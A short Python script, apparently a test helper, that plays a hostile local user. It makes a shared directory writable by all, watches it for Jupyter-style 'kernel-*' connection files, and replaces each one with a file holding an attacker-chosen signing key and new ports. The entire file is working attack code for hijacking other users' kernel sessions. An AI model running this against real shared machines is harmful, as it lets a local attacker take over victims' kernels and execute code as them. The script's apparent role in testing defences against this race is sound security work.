"""What a hostile user runs: make a directory open to all, and swap what appears in it.

swapper.py DIRECTORY: prints "ready"; a connection file of a kernel that appears there becomes one
of ours. The end of its input ends it; then it says what came of it.
"""

import contextlib
import json
import select
import socket
import sys
from pathlib import Path

KEY = "the key of the stranger"
PORTS = ("shell_port", "iopub_port", "stdin_port", "control_port", "hb_port")


def free_ports():
    held = [socket.socket() for _each in PORTS]
    for each in held:
        each.bind(("127.0.0.1", 0))
    found = [each.getsockname()[1] for each in held]
    for each in held:
        each.close()
    return dict(zip(PORTS, found, strict=True))


def ours(path):
    """The victim's file gives way to one that names our key and ports of all."""
    content = {"transport": "tcp", "ip": "127.0.0.1", "key": KEY, "kernel_name": "python3",
               "signature_scheme": "hmac-sha256", **free_ports()}  # fmt: skip
    path.unlink()
    path.write_text(json.dumps(content))
    path.chmod(0o644)


def names(directory):
    with contextlib.suppress(OSError):
        return [each.name for each in directory.iterdir() if each.name.startswith("kernel-")]
    return []


def main():
    directory, swapped = Path(sys.argv[1]), []
    with contextlib.suppress(OSError):
        for each in (directory.parent, directory):
            each.mkdir(exist_ok=True)
            each.chmod(0o777)
    print("ready", flush=True)
    while not select.select([sys.stdin], [], [], 0.001)[0]:
        for name in names(directory):
            if name not in swapped:
                with contextlib.suppress(OSError):
                    ours(directory / name)
                    swapped.append(name)
    print(json.dumps({"swapped": len(swapped)}), flush=True)


main()
